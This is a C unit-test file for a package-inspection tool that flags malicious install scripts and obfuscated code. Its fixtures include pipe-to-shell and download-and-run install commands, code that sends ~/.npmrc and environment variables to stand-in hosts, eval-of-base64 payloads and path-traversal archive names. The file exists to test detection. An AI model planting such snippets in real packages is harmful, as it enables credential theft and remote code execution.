/* test_inspect.c - static analysis of package contents (chainwarden/inspect.h):
 * the rule loader, the prefilter, the literal scanner, each detection of the
 * built-in rules, install-script scoping, and hostile archives. */
#include "cw_test.h"

#include <archive.h>
#include <archive_entry.h>
#include <jansson.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>

#include "attack/inspect_internal.h"

static cw_inspect_rules *rules;

static int setup(void **state)
{
	(void)state;
	return cw_inspect_rules_default(&rules) == 0 ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	cw_inspect_rules_free(rules);
	return 0;
}

/* A package from (name, content) pairs, NULL-terminated. */
static cw_inspect_report *inspect_files(const char *const *files)
{
	cw_inspect_session *s;
	cw_inspect_report *r;
	cw_assert_ok(cw_inspect_session_new(&s, rules, NULL));
	for (size_t i = 0; files[i]; i += 2)
		cw_assert_ok(cw_inspect_session_add(s, files[i], files[i + 1], strlen(files[i + 1])));
	cw_assert_ok(cw_inspect_session_finish(&r, s));
	return r;
}

static const cw_inspect_finding *find(const cw_inspect_report *r, const char *rule, const char *file)
{
	for (size_t i = 0; i < cw_inspect_report_count(r); i++) {
		const cw_inspect_finding *f = cw_inspect_report_finding(r, i);
		if (!strcmp(f->rule, rule) && (!file || (f->file && !strcmp(f->file, file))))
			return f;
	}
	return NULL;
}

#define ONE_FILE(name, text) inspect_files((const char *const[]){ name, text, NULL })

/* ---- rule files ------------------------------------------------------ */

static void test_inspect__default_rules_load_and_have_every_kind(void **state)
{
	size_t len;
	const char *text = cw_inspect_rules_default_text(&len);
	(void)state;
	assert_true(cw_inspect_rules_count(rules) > 40);
	assert_int_equal(strlen(text), len);
	assert_non_null(strstr(text, "id: credential-exfiltration"));
	assert_true(rules->pf.literals > 20);
}

static void expect_load_error(const char *text, int code, const char *msg)
{
	cw_inspect_rules *r = NULL;
	int rc = cw_inspect_rules_load(&r, text, strlen(text), "r.yaml");
	assert_int_equal(rc, code);
	assert_null(r);
	if (!strstr(cw_error_last()->message, msg))
		fail_msg("error '%s' lacks '%s'", cw_error_last()->message, msg);
}

static void test_inspect__rule_file_errors_name_file_line_and_problem(void **state)
{
	(void)state;
	expect_load_error("rules: []\n", CW_EINVALID, "r.yaml:1: expected 'version: 1'");
	expect_load_error("version: 1\nrules: [\n", CW_EINVALID, "invalid YAML");
	expect_load_error("version: 1\nrules:\n  - id: a\n    kind: suspicious\n    severity: low\n"
	                  "    description: d\n    patterns: ['(unclosed']\n", CW_EINVALID, "r.yaml:7: rule 'a': bad pattern at offset");
	expect_load_error("version: 1\nrules:\n  - id: a\n    kind: suspicious\n    severity: low\n"
	                  "    description: d\n    patern: ['x']\n", CW_EINVALID, "r.yaml:7: rule 'a': unknown key 'patern'");
	expect_load_error("version: 1\nrules:\n  - id: a\n    kind: suspicious\n    patterns: [x]\n",
	                  CW_EINVALID, "rule 'a': no severity");
	expect_load_error("version: 1\nrules:\n  - id: a\n    kind: bad\n    severity: low\n    patterns: [x]\n",
	                  CW_EINVALID, "r.yaml:4: unknown kind 'bad'");
	expect_load_error("version: 1\nrules:\n  - id: a\n    kind: malicious\n    severity: low\n"
	                  "    description: d\n    all: [b]\n  - id: b\n    kind: signal\n    patterns: [x]\n",
	                  CW_EINVALID, "r.yaml:7: rule 'a': 'b' is not a rule defined above");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: signal, patterns: [x]}\n"
	                  "  - {id: a, kind: signal, patterns: [y]}\n", CW_EINVALID, "r.yaml:4: duplicate rule id 'a'");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: signal, detector: entropy, min_length: 9}\n",
	                  CW_EINVALID, "needs min_entropy");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: signal, patterns: [x], scope: [jss]}\n",
	                  CW_EINVALID, "unknown scope 'jss'");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: signal, patterns: [x], detector: hex-blob}\n",
	                  CW_EINVALID, "exactly one of");
	expect_load_error("version: 1\nrules:\n  - {id: A!, kind: signal, patterns: [x]}\n", CW_EINVALID, "needs an id");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: suspicious, severity: low, patterns: [x]}\n",
	                  CW_EINVALID, "r.yaml:3: rule 'a': a reported rule needs a description");
	expect_load_error("version: 1\nrules:\n  - {id: a, kind: signal, patterns: [x], prefilter: ['']}\n",
	                  CW_EINVALID, "1 to 256 bytes");
}

static void test_inspect__custom_rule_file_with_prefilter_and_combination(void **state)
{
	static const char text[] =
		"version: 1\n"
		"rules:\n"
		"  - id: foo\n    kind: signal\n    prefilter: [FOO]\n    patterns: ['foo\\d+']\n"
		"  - id: bar\n    kind: suspicious\n    severity: low\n    description: bar\n"
		"    scope: [js]\n    patterns: ['(?i)bar']\n"
		"  - id: both\n    kind: malicious\n    severity: high\n    description: both\n"
		"    all: [foo, bar]\n";
	cw_inspect_rules *custom;
	cw_inspect_session *s;
	cw_inspect_report *r;
	const cw_inspect_finding *f;
	(void)state;
	cw_assert_ok(cw_inspect_rules_load(&custom, text, strlen(text), "custom.yaml"));
	assert_int_equal(cw_inspect_rules_count(custom), 3);
	cw_assert_ok(cw_inspect_session_new(&s, custom, NULL));
	/* a.js has both; b.py has both but 'bar' is scoped to JS; c.js lacks a digit after foo */
	cw_assert_ok(cw_inspect_session_add(s, "a.js", "x = 1;\nfoo12 + BAR", 18));
	cw_assert_ok(cw_inspect_session_add(s, "b.py", "foo1 bar", 8));
	cw_assert_ok(cw_inspect_session_add(s, "c.js", "foo bar", 7));
	cw_assert_ok(cw_inspect_session_finish(&r, s));
	assert_int_equal(cw_inspect_report_count_kind(r, CW_INSPECT_MALICIOUS), 1);
	assert_non_null(f = find(r, "both", "a.js"));
	assert_int_equal(f->line, 2);
	assert_non_null(strstr(f->evidence, "foo at line 2: foo12"));
	assert_non_null(find(r, "bar", "a.js"));
	assert_non_null(find(r, "bar", "c.js"));
	assert_null(find(r, "bar", "b.py"));
	assert_null(find(r, "foo", NULL));   /* signals are never reported */
	cw_inspect_report_free(r);
	cw_inspect_rules_free(custom);
}

/* ---- building blocks ------------------------------------------------- */

static bool naive_contains(const char *text, const char *lit)
{
	size_t n = strlen(lit);
	for (const char *p = text; *p; p++)
		if (!strncasecmp(p, lit, n))
			return true;
	return false;
}

static void test_inspect__prefilter_agrees_with_naive_search(void **state)
{
	const char *lits[12];
	size_t lens[12];
	char store[12][8];
	unsigned seed = 12345;
	(void)state;
	for (int round = 0; round < 200; round++) {
		cw__prefilter pf;
		char text[300];
		uint64_t seen[1] = { 0 };
		size_t n = 1 + (size_t)(round % 12), count = 0;
		/* distinct literals over a tiny alphabet, so they overlap a lot */
		for (size_t i = 0; i < n; i++) {
			size_t len;
			bool dup;
			do {
				len = 1 + (seed = seed * 1103515245 + 12345) % 4;
				for (size_t k = 0; k < len; k++)
					store[count][k] = "abcA"[(seed = seed * 1103515245 + 12345) >> 16 & 3];
				store[count][len] = 0;
				dup = false;
				for (size_t j = 0; j < count; j++)
					dup |= !strcasecmp(store[j], store[count]);
			} while (dup && len < 4);
			if (dup)
				continue;
			lits[count] = store[count];
			lens[count] = len;
			count++;
		}
		for (size_t k = 0; k < sizeof(text) - 1; k++)
			text[k] = "abcdAB"[(seed = seed * 1103515245 + 12345) >> 16 & 7 % 6];
		text[sizeof(text) - 1] = 0;
		cw_assert_ok(cw__prefilter_build(&pf, lits, lens, count));
		cw__prefilter_run(&pf, (const unsigned char *)text, strlen(text), seen);
		for (size_t i = 0; i < count; i++) {
			bool naive = naive_contains(text, lits[i]);
			bool got = (seen[0] >> i) & 1;
			if (naive != got)
				fail_msg("round %d literal '%s': naive %d prefilter %d", round, lits[i], naive, got);
		}
		cw__prefilter_free(&pf);
	}
}

static void test_inspect__shannon_entropy_of_known_strings(void **state)
{
	unsigned char all[256];
	(void)state;
	for (int i = 0; i < 256; i++)
		all[i] = (unsigned char)i;
	assert_true(fabs(cw__shannon_entropy((const unsigned char *)"aaaa", 4)) < 1e-12);
	assert_true(fabs(cw__shannon_entropy((const unsigned char *)"abab", 4) - 1.0) < 1e-12);
	assert_true(fabs(cw__shannon_entropy((const unsigned char *)"abcd", 4) - 2.0) < 1e-12);
	assert_true(fabs(cw__shannon_entropy(all, 256) - 8.0) < 1e-12);
	assert_true(cw__shannon_entropy((const unsigned char *)"", 0) == 0);
}

typedef struct {
	char got[8][64];
	size_t n;
} lits;

static void collect(void *ctx, const char *lit, size_t len, size_t offset)
{
	lits *l = ctx;
	(void)offset;
	if (l->n < 8)
		snprintf(l->got[l->n++], 64, "%.*s", (int)len, lit);
}

static void test_inspect__string_literals_of_js_and_python(void **state)
{
	static const char js[] = "a = 'one\\'s'; b = \"two\" // it's a comment\nc = `th\nree`; d = \"unterminated\n'x'";
	static const char py[] = "x = '''tri'ple''' + \"q\"\n";
	lits l = { .n = 0 };
	(void)state;
	cw__literals_each(js, strlen(js), false, 1, collect, &l);
	/* the stray quote of "it's" opens nothing that closes on its line */
	assert_int_equal(l.n, 4);
	assert_string_equal(l.got[0], "one\\'s");
	assert_string_equal(l.got[1], "two");
	assert_string_equal(l.got[2], "th\nree");
	assert_string_equal(l.got[3], "x");
	memset(&l, 0, sizeof(l));
	cw__literals_each(py, strlen(py), true, 1, collect, &l);
	assert_int_equal(l.n, 2);
	assert_string_equal(l.got[0], "tri'ple");
	assert_string_equal(l.got[1], "q");
	memset(&l, 0, sizeof(l));
	cw__literals_each(js, strlen(js), false, 4, collect, &l);   /* min length */
	assert_int_equal(l.n, 2);
}

static void test_inspect__evidence_escapes_control_bytes_and_truncates(void **state)
{
	cw_arena a = CW_ARENA_INIT;
	(void)state;
	assert_string_equal(cw__inspect_snippet(&a, "a\tb\x01\xff\\", 6, 100), "a b\\x01\\xff\\\\");
	assert_string_equal(cw__inspect_snippet(&a, "abcdef", 6, 3), "abc...");
	cw__arena_free(&a);
}

/* ---- detections of the built-in rules --------------------------------- */

static void test_inspect__eval_of_decoded_data_is_malicious(void **state)
{
	cw_inspect_report *r;
	(void)state;
	r = ONE_FILE("lib/x.js", "var s = 'YWxlcnQoMSk=';\neval(atob(s));\n");
	assert_non_null(find(r, "eval-decoded", "lib/x.js"));
	assert_int_equal(find(r, "eval-decoded", NULL)->line, 2);
	assert_int_equal(find(r, "eval-decoded", NULL)->kind, CW_INSPECT_MALICIOUS);
	cw_inspect_report_free(r);
	r = ONE_FILE("x.py", "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n");
	assert_non_null(find(r, "eval-decoded", "x.py"));
	cw_inspect_report_free(r);
	/* a method named eval is not eval() */
	r = ONE_FILE("x.js", "interp.eval(atob(s));\n");
	assert_null(find(r, "eval-decoded", NULL));
	cw_inspect_report_free(r);
}

static void test_inspect__function_constructor_alone_is_only_suspicious(void **state)
{
	cw_inspect_report *r;
	(void)state;
	r = ONE_FILE("t.js", "var f = new Function('a', 'return a + 1');\n");
	assert_non_null(find(r, "function-constructor", "t.js"));
	assert_int_equal(cw_inspect_report_count_kind(r, CW_INSPECT_MALICIOUS), 0);
	cw_inspect_report_free(r);
}

static char *repeat_random(size_t n, const char *alphabet)
{
	char *s = malloc(n + 1);
	unsigned seed = 7;
	size_t k = strlen(alphabet);
	for (size_t i = 0; i < n; i++)
		s[i] = alphabet[((seed = seed * 1103515245 + 12345) >> 16) % k];
	s[n] = 0;
	return s;
}

static void test_inspect__blobs_and_entropy_over_string_literals(void **state)
{
	char *hex = repeat_random(300, "0123456789abcdef"), *shorthex = repeat_random(100, "0123456789abcdef");
	char *b64 = repeat_random(600, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/");
	char *noisy = repeat_random(300, "!#$%&()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_abcdefghijklmnopqrstuvwxyz{|}~");
	char src[4096];
	cw_inspect_report *r;
	(void)state;
	snprintf(src, sizeof(src), "var a = \"%s\";\nvar b = '%s';\nvar c = `%s`;\nvar d = \"%s\";\n"
	         "var e = \"data:font/woff2;base64,%s\";\n", hex, shorthex, b64, noisy, b64);
	r = ONE_FILE("blob.js", src);
	assert_int_equal(find(r, "hex-blob", "blob.js")->line, 1);
	assert_int_equal(find(r, "hex-blob", NULL)->count, 1);          /* not the 100-byte one */
	assert_int_equal(find(r, "base64-blob", "blob.js")->line, 3);
	assert_int_equal(find(r, "base64-blob", NULL)->count, 1);       /* not the data: URI */
	assert_non_null(find(r, "high-entropy-string", "blob.js"));
	assert_int_equal(cw_inspect_report_count_kind(r, CW_INSPECT_MALICIOUS), 0);
	cw_inspect_report_free(r);
	/* the same blob decoded and run: malicious */
	snprintf(src, sizeof(src), "const p = '%s';\nnew Function(Buffer.from(p, 'base64').toString())();\n", b64);
	r = ONE_FILE("index.js", src);
	assert_non_null(find(r, "obfuscated-payload", "index.js"));
	cw_inspect_report_free(r);
	/* blobs in a README are not code */
	r = ONE_FILE("README.md", src);
	assert_int_equal(cw_inspect_report_count(r), 0);
	cw_inspect_report_free(r);
	free(hex);
	free(shorthex);
	free(b64);
	free(noisy);
}

static void test_inspect__install_files_come_from_the_scripts(void **state)
{
	static const char *const pkg[] = {
		"package/package.json", "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node scripts/post\",\"test\":\"node t.js\"}}",
		"package/scripts/post.js", "require('./helper');\n",
		"package/scripts/helper.js", "const cp = require('child_process');\ncp.execSync('ls');\n",
		"package/t.js", "const cp = require('child_process');\n",
		NULL
	};
	cw_inspect_report *r = inspect_files(pkg);
	const char *name, *cmd;
	(void)state;
	assert_int_equal(cw_inspect_report_script_count(r), 1);
	cw_inspect_report_script(r, 0, &name, &cmd);
	assert_string_equal(name, "postinstall");
	assert_string_equal(cmd, "node scripts/post");
	assert_non_null(find(r, "install-runs-code", "package/package.json#scripts.postinstall"));
	/* helper.js is reached through post.js; t.js only runs for `npm test` */
	assert_non_null(find(r, "install-file-spawns", "package/scripts/helper.js"));
	assert_null(find(r, "install-file-spawns", "package/t.js"));
	cw_inspect_report_free(r);
}

static void test_inspect__download_and_run_in_install_scripts(void **state)
{
	static const char *const pipe[] = {
		"package/package.json", "{\"scripts\":{\"preinstall\":\"curl -s https://x.example.invalid/i | bash\"}}",
		"package/README.md", "Install with: curl -s https://x.example.invalid/i | bash\n",
		NULL
	};
	static const char *const drop[] = {
		"package.json", "{\"scripts\":{\"install\":\"sh ./get.sh\"}}",
		"get.sh", "wget https://x.example.invalid/bin -O bin\nchmod 755 bin\n./bin &\n",
		"tools/other.sh", "wget https://x.example.invalid/bin -O bin\nchmod 755 bin\n",
		NULL
	};
	cw_inspect_report *r = inspect_files(pipe);
	(void)state;
	assert_non_null(find(r, "pipe-to-shell", "package/package.json#scripts.preinstall"));
	assert_null(find(r, "pipe-to-shell", "package/README.md"));
	cw_inspect_report_free(r);
	r = inspect_files(drop);
	assert_non_null(find(r, "download-and-run", "get.sh"));
	assert_null(find(r, "download-and-run", "tools/other.sh"));   /* not run at install */
	cw_inspect_report_free(r);
}

static void test_inspect__credentials_plus_network_is_malicious_not_either_alone(void **state)
{
	static const char steal[] =
		"const fs = require('fs'), https = require('https');\n"
		"const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
		"https.request({ host: 'h.example.invalid', method: 'POST' }).end(t);\n";
	static const char read_only[] =
		"const fs = require('fs');\nconst t = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');\n";
	static const char env[] = "const h = require('http');\nh.get('http://x.example.invalid/?' + JSON.stringify(process.env));\n";
	static const char token[] = "const h = require('https');\nconst t = process.env.GITHUB_TOKEN;\n";
	cw_inspect_report *r;
	(void)state;
	r = ONE_FILE("a.js", steal);
	assert_non_null(find(r, "credential-exfiltration", "a.js"));
	cw_inspect_report_free(r);
	r = ONE_FILE("a.js", read_only);
	assert_int_equal(cw_inspect_report_count(r), 0);
	cw_inspect_report_free(r);
	r = ONE_FILE("a.js", env);
	assert_non_null(find(r, "environment-exfiltration", "a.js"));
	cw_inspect_report_free(r);
	/* a token and the network: suspicious in a library, malicious at install */
	r = ONE_FILE("a.js", token);
	assert_non_null(find(r, "token-with-network", "a.js"));
	assert_int_equal(cw_inspect_report_count_kind(r, CW_INSPECT_MALICIOUS), 0);
	cw_inspect_report_free(r);
	r = inspect_files((const char *const[]){ "package.json", "{\"scripts\":{\"install\":\"node a.js\"}}",
	                                        "a.js", token, NULL });
	assert_non_null(find(r, "install-token-exfiltration", "a.js"));
	cw_inspect_report_free(r);
}

static void test_inspect__hard_coded_ip_urls(void **state)
{
	cw_inspect_report *r;
	(void)state;
	r = ONE_FILE("a.js", "get('http://203.0.113.9:8080/x');\n");
	assert_non_null(find(r, "ip-url", "a.js"));
	cw_inspect_report_free(r);
	r = ONE_FILE("a.js", "get('http://127.0.0.1:8080/'); get('http://192.168.1.1/'); get('http://10.0.0.1');"
	                     " get('http://1.2.3.4.example.invalid/')\n");
	assert_null(find(r, "ip-url", NULL));
	cw_inspect_report_free(r);
}

static void test_inspect__setup_py_and_pth_files(void **state)
{
	cw_inspect_report *r;
	(void)state;
	r = inspect_files((const char *const[]){
		"pkg-1.0/setup.py", "import os\nos.system('echo hi')\ndef f():\n    os.system('x')\n",
		"pkg-1.0/docs/examples/setup.py", "import os\nos.system('echo hi')\n", NULL });
	assert_int_equal(find(r, "setup-py-exec", "pkg-1.0/setup.py")->line, 2);
	assert_int_equal(find(r, "setup-py-exec", NULL)->count, 1);     /* not the indented call */
	assert_null(find(r, "setup-py-exec", "pkg-1.0/docs/examples/setup.py"));
	cw_inspect_report_free(r);
	r = ONE_FILE("x.pth", "import sys; sys.path.insert(0, '/opt')\n");
	assert_non_null(find(r, "pth-import", "x.pth"));
	assert_int_equal(cw_inspect_report_count_kind(r, CW_INSPECT_MALICIOUS), 0);
	cw_inspect_report_free(r);
}

static void test_inspect__package_wide_combination(void **state)
{
	char *hex = repeat_random(400, "0123456789abcdef"), data[600];
	cw_inspect_report *r;
	const cw_inspect_finding *f;
	(void)state;
	snprintf(data, sizeof(data), "module.exports = ['%s'];\n", hex);
	r = inspect_files((const char *const[]){
		"index.js", "var d = Buffer.from(x, 'hex');\nvar m = new module.constructor;\nm._compile(d, '');\n",
		"test/data.js", data, NULL });
	assert_non_null(f = find(r, "encrypted-payload-package", NULL));
	assert_null(f->file);
	assert_non_null(strstr(f->evidence, "encoded-blob in test/data.js:1"));
	cw_inspect_report_free(r);
	free(hex);
}

/* ---- archives -------------------------------------------------------- */

typedef struct {
	const char *name;
	const void *data;
	size_t len;
	la_int64_t declared;   /* 0: len */
} entry;

static unsigned char *make_archive(bool zip, const entry *entries, size_t n, size_t *out_len)
{
	size_t cap = 8u << 20, used = 0;
	unsigned char *buf = malloc(cap);
	struct archive *a = archive_write_new();
	if (zip) {
		archive_write_set_format_zip(a);
	} else {
		archive_write_set_format_pax_restricted(a);
		archive_write_add_filter_gzip(a);
	}
	archive_write_set_bytes_in_last_block(a, 1);
	assert_int_equal(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, entries[i].name);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_size(e, entries[i].declared ? entries[i].declared : (la_int64_t)entries[i].len);
		assert_true(archive_write_header(a, e) >= ARCHIVE_WARN);   /* WARN: a name that is not UTF-8 */
		if (entries[i].len)
			archive_write_data(a, entries[i].data, entries[i].len);
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	*out_len = used;
	return buf;
}

static void test_inspect__tarball_with_traversal_names_and_binaries(void **state)
{
	static const char bin[] = "\x7f" "ELF\0\0\0\0 curl http://203.0.113.1/x | sh";
	const entry e[] = {
		{ "package/package.json", "{\"name\":\"t\"}", 12, 0 },
		{ "package/../../etc/cron.d/x.js", "eval(atob('eA=='))", 18, 0 },
		{ "/abs/y.js", "1", 1, 0 },
		{ "package/bin/tool", bin, sizeof(bin) - 1, 0 },
		{ "package/\x1b[31mred\xff.js", "eval(atob(x))", 13, 0 },
		{ "package/caf\xc3\xa9.js", "eval(atob(x))", 13, 0 },
	};
	size_t len;
	unsigned char *tgz = make_archive(false, e, 6, &len);
	cw_inspect_report *r;
	const cw_inspect_stats *st;
	(void)state;
	cw_assert_ok(cw_inspect_archive_memory(&r, rules, tgz, len, "t.tgz", NULL));
	assert_non_null(find(r, "unsafe-path", "package/../../etc/cron.d/x.js"));
	assert_non_null(find(r, "unsafe-path", "/abs/y.js"));
	assert_non_null(find(r, "eval-decoded", "package/../../etc/cron.d/x.js"));
	/* names that would garble a terminal or JSON are escaped; UTF-8 is kept */
	assert_non_null(find(r, "eval-decoded", "package/\\x1b[31mred\\xff.js"));
	assert_non_null(find(r, "eval-decoded", "package/caf\xc3\xa9.js"));
	st = cw_inspect_report_stats(r);
	assert_int_equal(st->files, 6);
	assert_int_equal(st->skipped_binary, 1);
	assert_int_equal(st->scanned, 5);
	assert_null(find(r, "pipe-to-shell", NULL));   /* the binary was not scanned */
	cw_inspect_report_free(r);
	free(tgz);
}

static void test_inspect__caps_on_size_entries_and_bombs(void **state)
{
	size_t big = 6u << 20, len;
	char *zeros = calloc(1, big);
	cw_inspect_options o = CW_INSPECT_OPTIONS_INIT;
	cw_inspect_report *r = NULL;
	unsigned char *tgz;
	(void)state;
	memset(zeros, 'a', big);
	{
		const entry e[] = { { "package/big.js", zeros, big, 0 }, { "package/small.js", "eval(atob(x))", 13, 0 } };
		tgz = make_archive(false, e, 2, &len);
	}
	assert_true(len < 100000);   /* 6 MiB compress to almost nothing: a small bomb */
	/* a file over max_file_size is skipped, the rest is scanned */
	o.max_file_size = 1u << 20;
	cw_assert_ok(cw_inspect_archive_memory(&r, rules, tgz, len, "bomb.tgz", &o));
	assert_int_equal(cw_inspect_report_stats(r)->skipped_large, 1);
	assert_non_null(find(r, "eval-decoded", "package/small.js"));
	cw_inspect_report_free(r);
	/* past max_total_size: a clear error, no report */
	o.max_total_size = 4u << 20;
	assert_int_equal(cw_inspect_archive_memory(&r, rules, tgz, len, "bomb.tgz", &o), CW_ELIMIT);
	assert_null(r);
	assert_non_null(strstr(cw_error_last()->message, "decompression bomb"));
	free(tgz);
	/* too many entries */
	{
		entry e[50];
		char names[50][16];
		for (int i = 0; i < 50; i++) {
			snprintf(names[i], sizeof(names[i]), "f%d.js", i);
			e[i] = (entry){ names[i], "x", 1, 0 };
		}
		tgz = make_archive(true, e, 50, &len);
		o = (cw_inspect_options)CW_INSPECT_OPTIONS_INIT;
		cw_assert_ok(cw_inspect_archive_memory(&r, rules, tgz, len, "w.whl", &o));
		assert_int_equal(cw_inspect_report_stats(r)->files, 50);
		cw_inspect_report_free(r);
		o.max_entries = 10;
		assert_int_equal(cw_inspect_archive_memory(&r, rules, tgz, len, "w.whl", &o), CW_ELIMIT);
		free(tgz);
	}
	free(zeros);
}

static void test_inspect__not_an_archive_and_truncated_archives(void **state)
{
	const entry e[] = { { "package/index.js", "module.exports = 1;\n", 20, 0 } };
	size_t len;
	unsigned char *tgz = make_archive(false, e, 1, &len);
	cw_inspect_report *r = NULL;
	(void)state;
	assert_int_equal(cw_inspect_archive_memory(&r, rules, "hello world, not an archive", 27, "x", NULL),
	                 CW_EINVALID);
	assert_non_null(strstr(cw_error_last()->message, "x: not a"));
	assert_int_equal(cw_inspect_archive_memory(&r, rules, tgz, len / 2, "half.tgz", NULL), CW_EINVALID);
	assert_non_null(strstr(cw_error_last()->message, "half.tgz"));
	assert_null(r);
	free(tgz);
}

static void test_inspect__directories_do_not_follow_symlinks(void **state)
{
	char dir[] = "/tmp/cw-inspect-XXXXXX", path[512];
	cw_inspect_report *r;
	FILE *fp;
	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/a.js", dir);
	fp = fopen(path, "w");
	fputs("eval(atob('eA=='));\n", fp);
	fclose(fp);
	snprintf(path, sizeof(path), "%s/link.js", dir);
	assert_int_equal(symlink("a.js", path), 0);
	cw_assert_ok(cw_inspect_path(&r, rules, dir, NULL));
	assert_int_equal(cw_inspect_report_stats(r)->files, 1);
	assert_non_null(find(r, "eval-decoded", "a.js"));
	cw_inspect_report_free(r);
	unlink(path);
	snprintf(path, sizeof(path), "%s/a.js", dir);
	unlink(path);
	rmdir(dir);
	assert_int_equal(cw_inspect_path(&r, rules, "/nonexistent/pkg.tgz", NULL), CW_ENOTFOUND);
}

static void test_inspect__json_report_shape(void **state)
{
	cw_inspect_report *r = ONE_FILE("x.js", "eval(atob(s))\n");
	char *out;
	size_t len;
	json_t *doc;
	json_error_t err;
	(void)state;
	cw_assert_ok(cw_inspect_report_render(&out, &len, r, "pkg.tgz", true));
	assert_non_null(doc = json_loadb(out, len, 0, &err));
	assert_string_equal(json_string_value(json_object_get(doc, "target")), "pkg.tgz");
	assert_int_equal(json_integer_value(json_object_get(doc, "malicious")), 1);
	assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(doc, "findings"), 0),
	                                                       "rule")), "eval-decoded");
	json_decref(doc);
	free(out);
	cw_inspect_report_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_inspect__default_rules_load_and_have_every_kind),
		cmocka_unit_test(test_inspect__rule_file_errors_name_file_line_and_problem),
		cmocka_unit_test(test_inspect__custom_rule_file_with_prefilter_and_combination),
		cmocka_unit_test(test_inspect__prefilter_agrees_with_naive_search),
		cmocka_unit_test(test_inspect__shannon_entropy_of_known_strings),
		cmocka_unit_test(test_inspect__string_literals_of_js_and_python),
		cmocka_unit_test(test_inspect__evidence_escapes_control_bytes_and_truncates),
		cmocka_unit_test(test_inspect__eval_of_decoded_data_is_malicious),
		cmocka_unit_test(test_inspect__function_constructor_alone_is_only_suspicious),
		cmocka_unit_test(test_inspect__blobs_and_entropy_over_string_literals),
		cmocka_unit_test(test_inspect__install_files_come_from_the_scripts),
		cmocka_unit_test(test_inspect__download_and_run_in_install_scripts),
		cmocka_unit_test(test_inspect__credentials_plus_network_is_malicious_not_either_alone),
		cmocka_unit_test(test_inspect__hard_coded_ip_urls),
		cmocka_unit_test(test_inspect__setup_py_and_pth_files),
		cmocka_unit_test(test_inspect__package_wide_combination),
		cmocka_unit_test(test_inspect__tarball_with_traversal_names_and_binaries),
		cmocka_unit_test(test_inspect__caps_on_size_entries_and_bombs),
		cmocka_unit_test(test_inspect__not_an_archive_and_truncated_archives),
		cmocka_unit_test(test_inspect__directories_do_not_follow_symlinks),
		cmocka_unit_test(test_inspect__json_report_shape),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
